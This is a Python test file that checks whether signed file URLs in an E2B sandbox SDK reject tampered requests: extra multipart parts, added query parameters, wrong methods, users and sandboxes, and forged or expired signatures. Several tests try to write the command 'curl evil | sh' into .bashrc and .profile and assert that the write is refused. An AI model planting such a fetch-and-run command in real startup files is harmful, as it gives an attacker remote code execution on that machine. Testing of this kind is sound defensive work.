"""A signed file URL (``download_url`` / ``upload_url`` of the unmodified SDK) does exactly
what was signed: one read or one write of one file, at the signed path, as the signed user.
Whatever else the request carries (more multipart parts, another file name in the form,
repeated or extra query parameters, another method, another user) is refused, and nothing
but the signed file is ever touched."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

import httpx
import pytest

from e2b import Sandbox
from tests.e2b.conftest import E2bServer

_PROFILE = "# the sandbox's own profile\n"


@pytest.fixture(scope="module")
def sbx(e2b_server: E2bServer) -> Iterator[Sandbox]:
    with Sandbox.create(timeout=600) as sandbox:
        for name in (".bashrc", ".profile", "signed.txt"):
            sandbox.files.write(f"/home/user/{name}", _PROFILE)
        yield sandbox


def _untouched(sbx: Sandbox, *names: str) -> None:
    for name in (".bashrc", ".profile", *names):
        path = f"/home/user/{name}"
        assert sbx.files.read(path) == _PROFILE, f"{path} was written"
    listing = sbx.commands.run("ls -A /home/user").stdout.split()
    assert not [n for n in listing if n.startswith((".bashrc.", ".profile.", "planted"))], listing


def _with_query(url: str, *extra: tuple[str, str]) -> str:
    parts = urlsplit(url)
    return urlunsplit(parts._replace(query=urlencode([*parse_qsl(parts.query), *extra])))


def test_a_signed_upload_writes_no_second_part(sbx: Sandbox) -> None:
    url = sbx.upload_url("/home/user/signed.txt")
    files = [
        ("file", ("signed.txt", b"the signed one")),
        ("file", ("/home/user/.bashrc", b"curl evil | sh\n")),
        ("file", ("/home/user/.profile", b"curl evil | sh\n")),
    ]
    answer = httpx.post(url, files=files)
    assert answer.status_code == 400, answer.text
    # Refused whole: not even the signed file took the first part's bytes.
    _untouched(sbx, "signed.txt")


def test_a_signed_upload_refuses_a_form_field_beside_the_file(sbx: Sandbox) -> None:
    url = sbx.upload_url("/home/user/signed.txt")
    answer = httpx.post(
        url, data={"note": "x"}, files={"file": ("/home/user/.bashrc", b"curl evil | sh\n")}
    )
    assert answer.status_code == 400, answer.text
    _untouched(sbx, "signed.txt")


def test_a_signed_upload_goes_to_the_signed_path_whatever_the_part_is_named(
    sbx: Sandbox,
) -> None:
    url = sbx.upload_url("/home/user/named.txt")
    answer = httpx.post(url, files={"file": ("/home/user/.bashrc", b"mine")})
    assert answer.status_code == 200, answer.text
    assert [entry["path"] for entry in answer.json()] == ["/home/user/named.txt"]
    assert sbx.files.read("/home/user/named.txt") == "mine"
    _untouched(sbx)


@pytest.mark.parametrize(
    "extra",
    [
        [("path", "/home/user/.bashrc")],  # a second path: which one would be written?
        [("signature_expiration", "99999999999")],
        [("username", "user")],  # not signed: the URL was signed for the default user
        [("overwrite", "1")],  # not signed, not understood: refused, not ignored
    ],
)
def test_a_signed_url_with_another_query_parameter_is_refused(
    sbx: Sandbox, extra: list[tuple[str, str]]
) -> None:
    upload = _with_query(sbx.upload_url("/home/user/signed.txt"), *extra)
    answer = httpx.post(upload, files={"file": ("f", b"curl evil | sh\n")})
    assert answer.status_code in (400, 401), answer.text
    written = httpx.post(upload, content=b"curl evil | sh\n")  # octet-stream too
    assert written.status_code in (400, 401), written.text
    download = _with_query(sbx.download_url("/home/user/signed.txt"), *extra)
    assert httpx.get(download).status_code in (400, 401)
    _untouched(sbx, "signed.txt")


def test_a_signed_url_does_only_its_own_operation(sbx: Sandbox) -> None:
    download = sbx.download_url("/home/user/signed.txt")
    upload = sbx.upload_url("/home/user/signed.txt")
    for method in ("PUT", "DELETE", "PATCH"):
        for url in (download, upload):
            assert httpx.request(method, url, content=b"x").status_code in (401, 405)
    assert httpx.get(upload).status_code == 401, "a write signature does not read"
    assert httpx.post(download, content=b"x").status_code == 401, "a read signature does not write"
    _untouched(sbx, "signed.txt")


def test_a_signed_url_runs_only_as_its_user(sbx: Sandbox) -> None:
    # Root inside is a user of the sandbox (issue 16); a name it does not have is refused.
    as_bob = sbx.upload_url("/home/user/signed.txt", user="bob")
    assert httpx.post(as_bob, files={"file": ("f", b"x")}).status_code == 403
    upload = sbx.upload_url("/home/user/signed.txt")
    bob = {"Authorization": "Basic " + base64.b64encode(b"bob:").decode()}
    assert httpx.post(upload, files={"file": ("f", b"x")}, headers=bob).status_code == 403
    download = sbx.download_url("/home/user/signed.txt")
    assert httpx.get(download, headers=bob).status_code == 403
    _untouched(sbx, "signed.txt")


def test_a_signed_url_of_one_sandbox_does_not_open_another(
    e2b_server: E2bServer, sbx: Sandbox
) -> None:
    with Sandbox.create() as other:
        url = other.upload_url("/home/user/signed.txt")
        aimed = {"E2b-Sandbox-Id": sbx.sandbox_id, "E2b-Sandbox-Port": "49983"}
        answer = httpx.post(url, files={"file": ("f", b"x")}, headers=aimed)
        assert answer.status_code == 401
    _untouched(sbx, "signed.txt")


def test_a_signed_upload_of_one_file_still_works(sbx: Sandbox) -> None:
    url = sbx.upload_url("/home/user/fine.txt")
    assert httpx.post(url, files={"file": ("fine.txt", b"multipart")}).status_code == 200
    assert sbx.files.read("/home/user/fine.txt") == "multipart"
    assert httpx.post(url, content=b"octet").status_code == 200
    assert sbx.files.read("/home/user/fine.txt") == "octet"
    assert httpx.get(sbx.download_url("/home/user/fine.txt")).text == "octet"


def test_an_expired_or_forged_url_is_refused_in_envds_words(sbx: Sandbox) -> None:
    """envd checks the signature first, then the expiry: 401 ``{"code": 401, "message"}``
    with its messages; an expiry that is not an integer is its parameter parsing's 400."""
    expired = httpx.get(sbx.download_url("/home/user/signed.txt", use_signature_expiration=-10))
    assert (expired.status_code, expired.json()) == (
        401,
        {"code": 401, "message": "signature is already expired"},
    )
    forged = _replacing(
        sbx.download_url("/home/user/signed.txt"), signature="v1_AAAA", signature_expiration="1"
    )
    answer = httpx.get(forged)
    assert (answer.status_code, answer.json()) == (
        401,
        {"code": 401, "message": "invalid signature"},
    )
    malformed = _replacing(
        sbx.download_url("/home/user/signed.txt", use_signature_expiration=60),
        signature_expiration="soon",
    )
    answer = httpx.get(malformed)
    assert answer.status_code == 400 and "signature_expiration" in answer.json()["message"]


def _replacing(url: str, **values: str) -> str:
    parts = urlsplit(url)
    query = {**dict(parse_qsl(parts.query)), **values}
    return urlunsplit(parts._replace(query=urlencode(query)))
